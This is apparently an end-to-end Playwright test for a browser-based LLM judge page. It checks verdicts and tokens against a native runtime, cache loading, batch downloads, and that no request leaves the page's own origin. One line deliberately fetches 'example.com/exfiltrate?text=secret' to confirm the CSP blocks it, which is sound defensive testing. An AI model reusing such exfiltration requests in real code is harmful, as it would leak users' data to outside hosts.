// selene's page in headless Chromium with WebGPU (SwiftShader on a machine without a GPU):
// loads the demo model's shards from this origin, judges an absolute and a pairwise item through
// the form, checks the verdicts and that the greedy tokens equal the native runtime's, loads the
// model again from the browser's cache with the model files blocked, loads it from files, runs
// a batch and downloads its results, and checks that no request left for anything but the
// page's own files and the model's. Writes a screenshot and the measured times.
//
// Run by scripts/browser-test.sh, which builds the page, splits the model and runs the native
// judge first; the environment names what they produced:
//   SELENE_DIST      the built page (dist/)
//   SELENE_MODELS    a folder with the model's split set
//   SELENE_NATIVE    a folder with absolute.json and pairwise.json from the native_judge example
//   SELENE_OPTIONS   the judge options both sides used (JSON)
//   SELENE_SHOT      where to write the screenshot
//   SELENE_RESULTS   where to write the measurements (JSON)

import assert from "node:assert/strict";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { chromium } from "playwright-core";
import { serve } from "./serve.mjs";

const env = (name) => {
  const v = process.env[name];
  if (!v) throw new Error(`${name} is not set; run scripts/browser-test.sh`);
  return v;
};
const dist = resolve(env("SELENE_DIST"));
const models = resolve(env("SELENE_MODELS"));
const native = resolve(env("SELENE_NATIVE"));
const options = JSON.parse(env("SELENE_OPTIONS"));
const shot = resolve(env("SELENE_SHOT"));
const resultsPath = resolve(env("SELENE_RESULTS"));
const examples = resolve(import.meta.dirname, "../../examples");
const chromiumPath = process.env.SELENE_CHROMIUM ?? "/usr/bin/chromium";

const shards = readdirSync(models).filter((f) => f.endsWith(".gguf")).sort();
assert.ok(shards.length > 1, `expected a split set in ${models}`);
const firstShard = `models/${shards[0]}`;

const started = Date.now();
const elapsed = () => `${((Date.now() - started) / 1000).toFixed(0)} s`;
const step = (what) => console.log(`[browser-test ${elapsed()}] ${what}`);

const server = await serve({ "/": dist, "/models": models });
const profile = mkdtempSync(join(tmpdir(), "selene-chromium-"));
const context = await chromium.launchPersistentContext(profile, {
  executablePath: chromiumPath,
  headless: true,
  args: [
    "--no-sandbox",
    "--enable-unsafe-webgpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
  ],
  viewport: { width: 1100, height: 900 },
  acceptDownloads: true,
});

// Every request the browser makes, from the page and from its worker, whatever its origin.
const requests = [];
let phase = "start";
let blockModels = false;
await context.route("**/*", (route) => {
  const url = new URL(route.request().url());
  requests.push({ url: url.href, phase: phase });
  if (url.origin !== server.origin) return route.abort("blockedbyclient");
  if (blockModels && url.pathname.startsWith("/models/")) return route.abort("internetdisconnected");
  return route.continue();
});

const page = context.pages()[0] ?? (await context.newPage());
const consoleLines = [];
page.on("console", (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
page.on("worker", (w) => w.on("console", (m) => consoleLines.push(`worker ${m.type()}: ${m.text()}`)));
page.on("pageerror", (e) => consoleLines.push(`pageerror: ${e.message}`));

const results = { shards: shards.length, options };

function failWithConsole(e) {
  console.error(consoleLines.slice(-40).join("\n"));
  throw e;
}

async function open() {
  await page.goto(`${server.origin}/`);
  await page.waitForSelector("body[data-ready=yes]", { timeout: 120_000 });
  const problem = await page.evaluate(() => window.selene.errors);
  assert.deepEqual(problem, [], "the page reported a problem on start");
}

async function waitForModel() {
  await page.waitForFunction(
    () => document.body.dataset.model === "ready" || window.selene.errors.length > 0,
    null,
    { timeout: 600_000, polling: 500 },
  );
  const { errors, lastLoad } = await page.evaluate(() => ({ errors: window.selene.errors, lastLoad: window.selene.lastLoad }));
  assert.deepEqual(errors, [], "loading the model failed");
  return lastLoad;
}

async function judge(task) {
  await page.selectOption("#task", task);
  await page.fill("#max-tokens", String(options.max_tokens));
  await page.fill("#prefill", options.prefill ?? "");
  if (task === "pairwise") await page.setChecked("#swap", Boolean(options.swap));
  await page.evaluate(() => (window.selene.last = null));
  await page.click("#judge");
  await page.waitForFunction(() => window.selene.last || window.selene.errors.length > 0, null, {
    timeout: 1_200_000,
    polling: 500,
  });
  const { last, errors } = await page.evaluate(() => ({ last: window.selene.last, errors: window.selene.errors }));
  assert.deepEqual(errors, [], `judging the ${task} item failed`);
  return last;
}

// The form holds the bundled example of each task: the page's item must be the file's.
function exampleItem(task) {
  const item = JSON.parse(readFileSync(join(examples, `${task}.json`), "utf8"));
  delete item.id;
  return item;
}

try {
  step(`serving ${dist} and ${shards.length} shards at ${server.origin}`);
  phase = "first visit";
  await open();
  const adapter = await page.evaluate(() => window.selene.adapter);
  step(`adapter: ${JSON.stringify(adapter)}`);
  results.adapter = adapter;

  // The CSP stops a request to another origin before it is made.
  const blocked = await page.evaluate(() =>
    fetch("https://example.com/exfiltrate?text=secret").then(() => "sent", (e) => `refused: ${e.message}`),
  );
  assert.match(blocked, /^refused/, "a request to another origin was not refused");

  step(`loading ${firstShard} (all ${shards.length} shards) from the server`);
  await page.fill("#model-url", firstShard);
  await page.click("#load-url");
  const first = await waitForModel();
  assert.equal(first.from, "network");
  assert.equal(first.files.length, shards.length);
  step(`loaded in ${(first.timing.total_ms / 1000).toFixed(1)} s: ${JSON.stringify(first.info)}`);
  results.first_load = first.timing;
  results.model = first.info;

  for (const task of ["absolute", "pairwise"]) {
    step(`judging the ${task} example`);
    const got = await judge(task);
    const want = JSON.parse(readFileSync(join(native, `${task}.json`), "utf8"));
    assert.deepEqual(got.item, exampleItem(task), "the form's item is not the example's");
    const verdict = got.report.judgment.verdict;
    step(`${task}: ${got.tokens.original.length} tokens, verdict ${JSON.stringify(verdict?.result)}, ` +
      `timing ${JSON.stringify(got.timing.runs.original)}`);
    results[task] = {
      verdict: verdict?.result ?? null,
      parse_error: got.report.judgment.parse_error,
      distribution: got.report.judgment.distribution,
      timing: got.timing,
      tokens_equal: JSON.stringify(got.tokens) === JSON.stringify(want.tokens),
      tokens: got.tokens.original.length,
    };
    assert.deepEqual(got.tokens, want.tokens, `the browser's greedy tokens for ${task} differ from the native runtime's`);
    assert.equal(got.report.judgment.output, want.report.judgment.output);
    assert.ok(verdict, `the ${task} output did not parse: ${got.report.judgment.parse_error}`);
    assert.deepEqual(verdict, want.report.judgment.verdict);
    const shown = await page.textContent("#verdict");
    assert.ok(shown.includes(`Result: ${verdict.result}`), `the page shows ${JSON.stringify(shown)}`);
  }
  await page.screenshot({ path: shot, fullPage: true });
  step(`screenshot: ${shot}`);

  // A second visit, with the model files unreachable: the page loads the model from its cache.
  phase = "second visit, model files blocked";
  blockModels = true;
  await open();
  const cachedButton = page.locator("#cached-models button[data-key]");
  assert.equal(await cachedButton.count(), 1, "the cache does not list the model");
  step("loading again, from the cache, with the model files blocked");
  await page.fill("#model-url", firstShard);
  await page.click("#load-url");
  const second = await waitForModel();
  assert.equal(second.from, "cache");
  results.cached_load = second.timing;
  step(`loaded from the cache in ${(second.timing.total_ms / 1000).toFixed(1)} s`);
  const modelRequests = requests.filter((r) => r.phase === phase && new URL(r.url).pathname.startsWith("/models/"));
  assert.deepEqual(modelRequests, [], "the second load asked the network for model files");

  // From the person's own files (not cached), then a two-item batch, downloaded as JSONL.
  phase = "files and batch";
  await page.setChecked("#use-cache", false);
  await page.setInputFiles("#model-files", shards.map((s) => join(models, s)));
  const fromFiles = await waitForModel();
  assert.equal(fromFiles.from, "files");
  results.files_load = fromFiles.timing;
  step(`loaded from files in ${(fromFiles.timing.total_ms / 1000).toFixed(1)} s`);
  const batch = join(profile, "batch.jsonl");
  const lines = readFileSync(join(examples, "items.jsonl"), "utf8").split("\n").filter(Boolean);
  writeFileSync(batch, `${lines[2]}\nnot an item\n`);
  await page.fill("#max-tokens", "4");
  await page.setInputFiles("#batch-file", batch);
  await page.waitForFunction(() => !document.querySelector("#batch-run").disabled);
  await page.click("#batch-run");
  await page.waitForFunction(() => !document.querySelector("#batch-jsonl").disabled, null, { timeout: 600_000 });
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#batch-jsonl")]);
  const rows = readFileSync(await download.path(), "utf8").trim().split("\n").map((l) => JSON.parse(l));
  assert.equal(rows.length, 2);
  assert.equal(rows[0].key, "example-pairwise");
  assert.ok(rows[0].judgment.generated_tokens <= 4, "the batch ignored the max tokens");
  assert.match(rows[1].error, /batch\.jsonl:2/);
  step("batch of 2 judged and downloaded");

  // Clearing the cache empties it.
  await page.click("#clear-cache");
  await page.waitForFunction(() => document.querySelectorAll("#cached-models button[data-key]").length === 0);

  // Nothing but the page's own files and the model's shards was asked for, from this origin only.
  const assets = new Set(["/", "/index.html", "/app.js", "/worker.js", "/style.css", "/favicon.svg", "/pkg/selene_web.js", "/pkg/selene_web_bg.wasm"]);
  const modelPaths = new Set(shards.map((s) => `/models/${s}`));
  const foreign = requests.filter((r) => {
    const url = new URL(r.url);
    return url.origin !== server.origin || !(assets.has(url.pathname) || modelPaths.has(url.pathname));
  });
  assert.deepEqual(foreign, [], "requests other than the page's assets and the model files");
  assert.ok(server.log.every((p) => assets.has(p) || modelPaths.has(p)), `the server saw ${server.log.join(", ")}`);
  results.requests = requests.length;
  step(`${requests.length} requests, all to the page's assets or the model files`);
} catch (e) {
  failWithConsole(e);
} finally {
  writeFileSync(resultsPath, JSON.stringify(results, null, 2));
  await context.close();
  await server.close();
  rmSync(profile, { recursive: true, force: true });
}
step("passed");
